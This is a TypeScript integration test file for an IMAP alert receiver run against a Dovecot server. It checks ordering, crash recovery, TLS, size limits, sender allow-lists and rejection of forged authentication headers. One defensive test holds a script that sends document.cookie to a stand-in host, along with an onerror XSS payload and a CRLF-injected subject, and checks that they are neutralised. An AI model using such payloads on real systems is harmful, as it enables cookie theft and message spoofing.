/**
 * The imap receiver against a real Dovecot (test/support/dovecot.ts: one server for this file, a mailbox of
 * its own per test), delivering into a real SQLite store through the real IntakeWriter, which commits the
 * receiver's position with the records. Messages are appended over IMAP as raw RFC 822 text (built with
 * nodemailer's MailComposer, Authentication-Results fields prepended as a receiving server does).
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, rmSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import type Mail from 'nodemailer/lib/mailer/index.js';
import type { ImapFlow } from 'imapflow';
import { pino } from 'pino';
import { openTestStore, tempDir, type TestStore } from '../../support/stores.js';
import { startDovecot, type Dovecot } from '../../support/dovecot.js';
import { waitFor } from '../../support/wait.js';
import { createReceivers } from '../../../src/intake/registry.js';
import { receiverName, type ImapStatus } from '../../../src/intake/receivers/imap.js';
import { readCursorValue } from '../../../src/store/cursors.js';
import { readAfter } from '../../../src/store/log.js';
import { loadDetectors, normalizeRecord } from '../../../src/detectors/lib/registry.js';
import type { Receiver } from '../../../src/intake/receiver.js';
import { createIntakeWriter } from '../../../src/intake/writer.js';
import { RecordingIntake } from '../../support/intake.js';
import type { Logger } from '../../../src/util/log.js';

const FIXTURES = fileURLToPath(new URL('../../fixtures/email/', import.meta.url));
const SENDER = 'alerts@fireeye.example.test';
const AUTHSERV = 'mx.soc.example.test';

let dovecot: Dovecot;
let admin: ImapFlow;
let boxes = 0;

before(async () => {
  dovecot = await startDovecot();
  admin = await dovecot.client();
});
after(async () => {
  await admin?.logout().catch(() => undefined);
  await dovecot?.stop();
});

// ---------------------------------------------------------------------------------------------------------
// Messages

interface MsgOptions extends Mail.Options {
  /** Raw header lines put on top, as receiving servers prepend them ("Authentication-Results: …"). */
  prepend?: string[];
}

async function message(o: MsgOptions = {}): Promise<Buffer> {
  const { prepend = [], ...mail } = o;
  const built = await new MailComposer({ from: SENDER, to: 'fido@soc.example.test', subject: 'alert', text: 'an alert', ...mail }).compile().build();
  return Buffer.concat([Buffer.from(prepend.map((l) => `${l}\r\n`).join('')), built]);
}

const crlf = (s: string) => s.replace(/\r?\n/g, '\r\n');

// ---------------------------------------------------------------------------------------------------------
// The receiving side

interface Rig {
  mailbox: string;
  store: TestStore;
  intake: RecordingIntake;
  logs: string[];
  append(msg: Buffer | string, flags?: string[]): Promise<number>;
  receiver(settings?: Record<string, unknown>): Promise<Receiver>;
  status(r: Receiver): ImapStatus;
  /** The records of the intake log (the store), in order. */
  stored(): Promise<string[]>;
  /** UID → flags of the mailbox's messages. */
  flags(box?: string): Promise<Map<number, Set<string>>>;
  waitRecords(n: number): Promise<void>;
}

async function withRig(fn: (rig: Rig) => Promise<void>): Promise<void> {
  const dir = tempDir('fido-imaprx-');
  const mailbox = `T${++boxes}`;
  await admin.mailboxCreate(mailbox);
  const store = await openTestStore('sqlite');
  const logs: string[] = [];
  const log = pino({ level: 'debug' }, { write: (s: string) => void logs.push(s) }) as unknown as Logger;
  const writer = createIntakeWriter(store.store, { maxBacklog: 1e9 });
  const intake = new RecordingIntake(writer);
  const started: Receiver[] = [];
  const rig: Rig = {
    mailbox,
    store,
    intake,
    logs,
    async append(msg, flags = []) {
      const r = await admin.append(mailbox, typeof msg === 'string' ? crlf(msg) : msg, flags);
      assert.ok(r && r.uid, 'appended');
      return r.uid;
    },
    async receiver(settings = {}) {
      const receiver = {
        kind: 'imap',
        host: dovecot.host,
        port: dovecot.port,
        tls: 'none',
        user: dovecot.user,
        password: '${env:FIDO_TEST_IMAP_PASSWORD}',
        mailbox,
        interval: '50ms',
        senders: [SENDER],
        ...settings,
      };
      const [r] = await createReceivers([{ name: 'mail', receiver }], { store: store.store, intake, log, configDir: dir, owner: 'proc-1' });
      assert.ok(r, 'an imap receiver is built');
      started.push(r);
      await r.start();
      return r;
    },
    status: (r) => r.status!() as ImapStatus,
    async stored() {
      return (await readAfter(store.store.db, 0, 100_000)).map((r) => r.raw);
    },
    async flags(box = mailbox) {
      const out = new Map<number, Set<string>>();
      const lock = await admin.getMailboxLock(box);
      try {
        // Dovecot tells of other sessions' expunges on NOOP, not during FETCH.
        await admin.noop();
        if ((admin.mailbox || { exists: 0 }).exists > 0) for (const m of await admin.fetchAll('1:*', { uid: true, flags: true })) out.set(m.uid, m.flags ?? new Set());
      } finally {
        lock.release();
      }
      return out;
    },
    waitRecords: (n) => waitFor(`${n} records`, () => intake.committed.length >= n).then(() => undefined),
  };
  process.env.FIDO_TEST_IMAP_PASSWORD = dovecot.password;
  try {
    await fn(rig);
  } finally {
    intake.releaseCrash();
    for (const r of started) await r.stop();
    await writer.close();
    await store.cleanup();
    rmSync(dir, { recursive: true, force: true });
  }
}

const logged = (logs: readonly string[], msg: string) => logs.map((l) => JSON.parse(l) as Record<string, unknown>).filter((l) => String(l.msg).includes(msg));

// ---------------------------------------------------------------------------------------------------------

test('text alerts arrive as records in UID order, each once, across batches; flagged; status and cursor', async () => {
  await withRig(async ({ append, receiver, stored, flags, waitRecords, status, store, intake }) => {
    for (let i = 1; i <= 5; i++) await append(await message({ subject: `a${i}`, text: `alert number ${i}` }));
    const r = await receiver({ batch_size: 2 });
    await waitRecords(5);
    assert.deepEqual(await stored(), [1, 2, 3, 4, 5].map((i) => `alert number ${i}`), 'the text bodies, in order, in the intake log');
    const s = await waitFor('status drained', () => {
      const x = status(r);
      return x.lag_ms === 0 && x.cursor?.endsWith('/5') ? x : null;
    });
    assert.equal(s.records, 5);
    assert.equal(s.state, 'running');
    assert.equal(s.error, null);
    const uidvalidity = s.cursor!.split('/')[0]!;
    assert.match(uidvalidity, /^[0-9]+$/);
    const committed = await readCursorValue(store.store.db, receiverName('mail'), 'position');
    assert.equal(JSON.parse(committed!).last_uid, 5, 'the position is committed in the store');
    const f = await waitFor('all flagged', async () => {
      const m = await flags();
      return [...m.values()].every((x) => x.has('$FidoProcessed')) ? m : null;
    });
    assert.equal(f.size, 5);
    assert.ok(![...f.values()].some((x) => x.has('\\Seen')), 'reading does not mark messages \\Seen');
    assert.equal(intake.committed.length, 5, 'nothing taken twice while polling on');
  });
});

test('a FireEye notification e-mail: the body and the XML attachment become records the fireeye detector parses', async () => {
  await withRig(async ({ append, receiver, stored, waitRecords }) => {
    await append(crlf(readFileSync(`${FIXTURES}fireeye-notification.eml`, 'utf8')));
    await receiver({ senders: ['@alerts.example.test'] });
    await waitRecords(2);
    const records = await stored();
    assert.equal(records.length, 2, 'body + XML attachment');
    assert.ok(records[0]!.startsWith('alert-url: https://fireeye-nx1/'), records[0]);
    assert.ok(records[1]!.startsWith('<?xml'), 'the attachment, decoded from base64, byte for byte');
    assert.equal(records[1], readFileSync(fileURLToPath(new URL('../../fixtures/samples/fireeye/notification_xml.whole.txt', import.meta.url)), 'utf8'));
    const registry = await loadDetectors();
    for (const raw of records) {
      const r = normalizeRecord(registry, raw, null, { receivedAt: '2026-01-01T00:00:00Z' });
      assert.ok('alerts' in r, JSON.stringify(r).slice(0, 400));
      assert.equal(r.detector, 'fireeye');
      assert.equal(r.alerts[0]!.title, 'malware-callback: Trojan.Zbot');
      assert.deepEqual(r.alerts[0]!.dst, { ip: '198.51.100.23', port: 8080 });
    }
  });
});

test('HTML-only mail becomes its text; scripts and markup are dropped, header tricks are just data', async () => {
  await withRig(async ({ append, receiver, stored, waitRecords }) => {
    const html = '<html><head><style>p{color:red}</style><script>fetch("https://x.invalid/"+document.cookie)</script></head><body><p>Malware <b>detected</b> on host-7</p><img src=x onerror=alert(1)></body></html>';
    // A subject carrying an encoded CR LF and a fake header: decoded, it is text in a header, nothing more.
    await append(await message({ text: undefined, html, subject: '=?utf-8?b?' + Buffer.from('hi\r\nBcc: victim@x.invalid').toString('base64') + '?=' }));
    await receiver();
    await waitRecords(1);
    const [rec] = await stored();
    assert.ok(rec!.includes('Malware') && rec!.includes('DETECTED') === false && rec!.includes('detected on host-7'), rec);
    assert.ok(!rec!.includes('<') && !rec!.includes('document.cookie') && !rec!.includes('color:red'), `no markup or script: ${rec}`);
  });
});

test('a JSON attachment is its own record byte for byte; a binary attachment is only logged; nothing usable → the raw message', async () => {
  await withRig(async ({ append, receiver, stored, waitRecords, logs }) => {
    const json = readFileSync(fileURLToPath(new URL('../../fixtures/samples/fireeye/notifications.jsonl', import.meta.url)), 'utf8').split('\n')[0]!;
    await append(
      await message({
        text: 'see attachment',
        attachments: [
          { filename: 'alert.json', content: json, contentType: 'application/json' },
          { filename: 'report.pdf', content: Buffer.from('%PDF-1.4 \x00\x01\x02 binary'), contentType: 'application/pdf' },
        ],
      }),
    );
    const onlyBinary = await message({ text: undefined, subject: 'empty', attachments: [{ filename: 'x.bin', content: Buffer.from([0, 1, 2, 255]), contentType: 'application/octet-stream' }] });
    await append(onlyBinary);
    await receiver();
    await waitRecords(3);
    const records = await stored();
    assert.deepEqual(records.slice(0, 2), ['see attachment', json]);
    assert.ok(records[2]!.includes('Subject: empty') && records[2]!.includes('filename=x.bin') && records[2]!.includes('AAEC/w=='), 'the whole raw message, for quarantine');
    const binary = logged(logs, 'binary attachments not ingested');
    assert.equal(binary.length, 1);
    assert.deepEqual((binary[0]!.binary_attachments as Array<{ filename: string }>).map((a) => a.filename), ['report.pdf']);
    assert.equal(logged(logs, 'nothing usable in the message').length, 1);
  });
});

test('IDLE: a message appended while the receiver idles arrives without waiting for the poll interval', async () => {
  await withRig(async ({ append, receiver, waitRecords, status, intake }) => {
    await append(await message({ text: 'first' }));
    const r = await receiver({ interval: '1h' });
    await waitRecords(1);
    // Drained, then idling: the next poll by timer would be an hour away.
    await waitFor('drained', () => status(r).lag_ms === 0);
    await new Promise((res) => setTimeout(res, 200));
    await append(await message({ text: 'second, announced by IDLE' }));
    await waitRecords(2);
    assert.deepEqual(intake.texts(), ['first', 'second, announced by IDLE']);
  });
  // idle: false polls every interval instead.
  await withRig(async ({ append, receiver, waitRecords, status, intake }) => {
    const r = await receiver({ idle: false, interval: '30ms' });
    await waitFor('first poll', () => status(r).cursor !== null);
    await append(await message({ text: 'polled' }));
    await waitRecords(1);
    assert.deepEqual(intake.texts(), ['polled']);
  });
});

test('a crash between commit and flagging: the restart resumes after the committed UID, every message once', async () => {
  await withRig(async ({ append, receiver, intake, waitRecords, flags, store }) => {
    for (let i = 1; i <= 6; i++) await append(await message({ text: `m${i}` }));
    intake.crashAfter = 2; // the 2nd batch commits, then the receiver "dies" before flagging it
    const r1 = await receiver({ batch_size: 3 });
    await waitRecords(6);
    const stopping = r1.stop();
    intake.releaseCrash();
    await stopping;
    const f = await flags();
    assert.deepEqual([1, 2, 3].map((u) => f.get(u)!.has('$FidoProcessed')), [true, true, true], 'batch 1 was flagged');
    assert.deepEqual([4, 5, 6].map((u) => f.get(u)!.has('$FidoProcessed')), [false, false, false], 'batch 2 was committed but never flagged');
    const stored = await readCursorValue(store.store.db, receiverName('mail'), 'position');
    assert.equal(JSON.parse(stored!).last_uid, 6, 'the position was committed with batch 2');
    await append(await message({ text: 'm7' }));
    await receiver({ batch_size: 3 });
    await waitRecords(7);
    await append(await message({ text: 'm8' }));
    await waitRecords(8);
    assert.deepEqual(intake.texts(), ['m1', 'm2', 'm3', 'm4', 'm5', 'm6', 'm7', 'm8'], 'every message exactly once across the crash');
  });
});

test('UIDVALIDITY change: falls back to the messages without Fido flags, says so, takes nothing twice that was flagged', async () => {
  await withRig(async ({ mailbox, append, receiver, intake, waitRecords, status, logs, flags }) => {
    for (let i = 1; i <= 3; i++) await append(await message({ text: `old${i}` }));
    let r = await receiver();
    await waitRecords(3);
    await waitFor('flagged', async () => [...(await flags()).values()].every((x) => x.has('$FidoProcessed')));
    const before = status(r).cursor!;
    await r.stop();
    // A flag lost (someone cleared it): documented to be taken again after the change.
    await admin.mailboxOpen(mailbox);
    await admin.messageFlagsRemove('2', ['$FidoProcessed'], { uid: true });
    await admin.mailboxClose();
    dovecot.doveadm(['mailbox', 'update', '-u', dovecot.user, '--uid-validity', '424242', mailbox]);
    await append(await message({ text: 'new1' }));
    r = await receiver();
    await waitRecords(5);
    await append(await message({ text: 'new2' }));
    await waitRecords(6);
    assert.deepEqual(intake.texts(), ['old1', 'old2', 'old3', 'old2', 'new1', 'new2']);
    const s = await waitFor('cursor on the new uidvalidity', () => (status(r).cursor?.startsWith('424242/') ? status(r) : null));
    assert.notEqual(s.cursor, before);
    const warned = logged(logs, 'UIDVALIDITY changed');
    assert.equal(warned.length, 1, 'said once');
    assert.equal(warned[0]!.uidvalidity, '424242');
  });
});

test('UIDVALIDITY changed under a running receiver: it notices, resynchronises and goes on', async () => {
  await withRig(async ({ mailbox, append, receiver, intake, waitRecords, status, logs }) => {
    await append(await message({ text: 'before' }));
    const r = await receiver();
    await waitRecords(1);
    await waitFor('drained', () => status(r).lag_ms === 0);
    dovecot.doveadm(['mailbox', 'update', '-u', dovecot.user, '--uid-validity', '777', mailbox]);
    await append(await message({ text: 'after' }));
    await waitRecords(2);
    await waitFor('cursor on the new uidvalidity', () => status(r).cursor?.startsWith('777/'));
    assert.deepEqual(intake.texts(), ['before', 'after']);
    assert.equal(logged(logs, 'UIDVALIDITY changed').length, 1);
  });
});

test('a sender not in the list is not stored, flagged $FidoRejected and counted; display names and several From are not trusted', async () => {
  await withRig(async ({ append, receiver, stored, flags, status, logs, waitRecords }) => {
    const bad = [
      await message({ from: 'evil@attacker.example.test', text: 'bad 1' }),
      await message({ from: `"${SENDER}" <evil@attacker.example.test>`, text: 'bad 2' }),
      await message({ from: `=?utf-8?b?${Buffer.from(`<${SENDER}>`).toString('base64')}?= <evil@attacker.example.test>`, text: 'bad 3' }),
      await message({ from: [SENDER, 'evil@attacker.example.test'], text: 'bad 4' }),
      await message({ from: 'alerts@sub.fireeye.example.test', text: 'bad 5' }),
    ];
    for (const m of bad) await append(m);
    await append(await message({ from: `Alerts <${SENDER.toUpperCase()}>`, text: 'good' }));
    const r = await receiver();
    await waitRecords(1);
    const s = await waitFor('all seen', () => (status(r).cursor?.endsWith('/6') && status(r).rejected === 5 ? status(r) : null));
    assert.deepEqual(await stored(), ['good'], 'only the allowed sender (matched case-insensitively)');
    assert.equal(s.records, 1);
    const f = await waitFor('flags set', async () => ((await flags()).get(6)?.has('$FidoProcessed') ? flags() : null));
    for (const uid of [1, 2, 3, 4, 5]) assert.ok(f.get(uid)!.has('$FidoRejected') && !f.get(uid)!.has('$FidoProcessed'), `uid ${uid} flagged rejected`);
    const refused = logged(logs, 'message refused');
    assert.deepEqual(
      refused.map((l) => [l.from, l.reason]),
      [
        ['evil@attacker.example.test', 'sender not allowed'],
        ['evil@attacker.example.test', 'sender not allowed'],
        ['evil@attacker.example.test', 'sender not allowed'],
        [null, 'several From addresses'],
        ['alerts@sub.fireeye.example.test', 'sender not allowed'],
      ],
    );
    assert.ok(!logs.some((l) => l.includes('bad 1') || l.includes('bad 2')), 'bodies are never logged');
  });
});

test('Authentication-Results: only the topmost field by our authserv-id counts; forged ones below are ignored', async () => {
  await withRig(async ({ append, receiver, stored, status, logs, waitRecords }) => {
    const ar = (id: string, rest: string) => `Authentication-Results: ${id};\r\n\t${rest}`;
    const cases: Array<[string, string[]]> = [
      ['forged pass (other id) below the real fail', [ar(AUTHSERV, 'dkim=fail header.d=fireeye.example.test; spf=fail'), ar('attacker.example', 'dkim=pass header.d=fireeye.example.test; spf=pass')]],
      ['forged pass with OUR id below the real fail', [ar(AUTHSERV, 'dkim=fail (bad signature) header.d=fireeye.example.test'), ar(AUTHSERV, 'dkim=pass header.d=fireeye.example.test')]],
      ['only a foreign field saying pass', [ar('attacker.example', 'dkim=pass header.d=fireeye.example.test; spf=pass')]],
      ['no field at all', []],
      ['real pass by a signer that is not the From domain (alignment)', [ar(AUTHSERV, 'dkim=pass header.d=attacker.example; spf=pass')]],
      ['real dkim pass but spf softfail', [ar(AUTHSERV, 'dkim=pass header.d=fireeye.example.test; spf=softfail smtp.mailfrom=x')]],
    ];
    for (const [name, prepend] of cases) await append(await message({ prepend, text: `refused: ${name}` }));
    await append(await message({ prepend: [ar(AUTHSERV, 'dkim=pass (2048-bit key) header.d=example.test header.s=s1 header.b="Ab+c/=="; spf=pass smtp.mailfrom=fireeye.example.test'), ar('attacker.example', 'dkim=fail')], text: 'accepted: real pass, aligned with a parent domain' }));
    const r = await receiver({ senders: ['@fireeye.example.test'], require_authentication: { authserv_id: AUTHSERV, dkim: true, spf: true, dkim_aligned: true } });
    await waitRecords(1);
    await waitFor('all seen', () => status(r).rejected === cases.length);
    assert.deepEqual(await stored(), ['accepted: real pass, aligned with a parent domain']);
    const reasons = logged(logs, 'message refused').map((l) => l.reason);
    assert.deepEqual(reasons, [
      'dkim did not pass (fail)',
      'dkim did not pass (fail)',
      `the topmost Authentication-Results field is not by ${AUTHSERV}`,
      `no Authentication-Results field (expected one by ${AUTHSERV})`,
      'no passing dkim signature is aligned with the From domain',
      'spf did not pass (softfail)',
    ]);
  });
});

test('a wrong password: a failing status naming the login failure, never the password', async () => {
  // A server of its own: Dovecot delays logins from an address after failures (anvil's auth penalty).
  const own = await startDovecot();
  try {
    await withRig(async ({ receiver, status, logs }) => {
      process.env.FIDO_TEST_IMAP_PASSWORD_BAD = 'Wr0ng-imap-secret-991';
      const r = await receiver({ port: own.port, password: '${env:FIDO_TEST_IMAP_PASSWORD_BAD}' });
      const s = await waitFor('failing', () => (status(r).state === 'failing' ? status(r) : null));
      assert.ok(s.error!.includes(`login as ${own.user} failed`), s.error!);
      assert.ok(!JSON.stringify(s).includes('Wr0ng-imap-secret-991'));
      assert.ok(!logs.some((l) => l.includes('Wr0ng-imap-secret-991')), 'not in the logs either');
    });
  } finally {
    await own.stop();
  }
});

test('TLS: implicit TLS and STARTTLS with the test CA work; an unknown CA and a missing mailbox fail visibly; bad settings are refused', async () => {
  await withRig(async ({ append, receiver, waitRecords, intake }) => {
    await append(await message({ text: 'over tls' }));
    await receiver({ tls: 'implicit', port: dovecot.tlsPort, tls_ca_file: dovecot.caFile });
    await waitRecords(1);
    assert.deepEqual(intake.texts(), ['over tls']);
  });
  await withRig(async ({ append, receiver, waitRecords, intake }) => {
    await append(await message({ text: 'over starttls' }));
    await receiver({ tls: 'starttls', tls_ca_file: dovecot.caFile });
    await waitRecords(1);
    assert.deepEqual(intake.texts(), ['over starttls']);
  });
  await withRig(async ({ append, receiver, status, intake }) => {
    await append(await message({ text: 'never' }));
    const r = await receiver({ tls: 'implicit', port: dovecot.tlsPort, tls_ca_file: dovecot.otherCaFile });
    const s = await waitFor('failing', () => (status(r).state === 'failing' ? status(r) : null));
    assert.ok(/certificate/i.test(s.error!), s.error!);
    assert.equal(intake.committed.length, 0);
  });
  await withRig(async ({ receiver, status }) => {
    const r = await receiver({ mailbox: 'No-Such-Folder' });
    const s = await waitFor('failing', () => (status(r).state === 'failing' ? status(r) : null));
    assert.ok(s.error!.startsWith('cannot open mailbox No-Such-Folder: '), s.error!);
    await assert.rejects(receiver({ tls: 'none', host: 'imap.example.test' }), /allow_plaintext/);
    await assert.rejects(receiver({ senders: [] }));
    await assert.rejects(receiver({ senders: ['not an address'] }), /senders/);
  });
});

test('a message above max_message_bytes is not fetched: flagged $FidoTooLarge, logged, counted; processed ones move when asked', async () => {
  await withRig(async ({ mailbox, append, receiver, stored, flags, status, logs, waitRecords }) => {
    const done = `${mailbox}-done`;
    await admin.mailboxCreate(done);
    await append(await message({ text: 'x'.repeat(8000) }));
    await append(await message({ text: 'small' }));
    const r = await receiver({ max_message_bytes: 4096, mark: { move_to: done } });
    await waitRecords(1);
    await waitFor('counted', () => status(r).too_large === 1);
    assert.deepEqual(await stored(), ['small']);
    const left = await waitFor('moved', async () => ((await flags()).size === 1 ? flags() : null));
    assert.ok(left.get(1)!.has('$FidoTooLarge'), 'the large one stays, flagged');
    const moved = await flags(done);
    assert.equal(moved.size, 1);
    assert.ok([...moved.values()][0]!.has('$FidoProcessed'), 'the processed one was flagged, then moved');
    assert.equal(logged(logs, 'message too large').length, 1);
  });
});

// Speed is measured in bench/receivers.ts (imap); this checks a run of 500 at batch_size 100 takes each once.
test('500 small messages from Dovecot arrive in batches, each once', async () => {
  await withRig(async ({ mailbox, receiver, waitRecords, stored }) => {
    const n = 500;
    const lines: string[] = [];
    for (let i = 0; i < n; i++) lines.push(`From: ${SENDER}\r\nTo: fido@soc.example.test\r\nSubject: a${i}\r\nMessage-ID: <b${i}@x>\r\n\r\nalert ${i}\r\n`);
    for (const l of lines) await admin.append(mailbox, l);
    await receiver({ batch_size: 100 });
    await waitRecords(n);
    const records = await stored();
    assert.equal(records.length, n);
    assert.equal(new Set(records).size, n, 'each once');
  });
});
